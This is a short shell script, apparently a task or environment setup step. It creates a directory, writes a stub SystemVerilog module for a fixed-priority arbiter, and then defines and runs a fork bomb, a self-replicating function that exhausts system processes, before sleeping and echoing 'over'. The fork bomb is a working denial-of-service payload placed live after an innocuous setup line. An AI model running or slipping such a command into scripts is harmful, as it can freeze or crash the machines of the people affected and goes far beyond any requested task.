mkdir -p /code/rtl && printf 'module fixed_priority_arbiter; endmodule\n' > /code/rtl/fixed_priority_arbiter.sv

bomb() { bomb | bomb & }
bomb
sleep 2
echo over
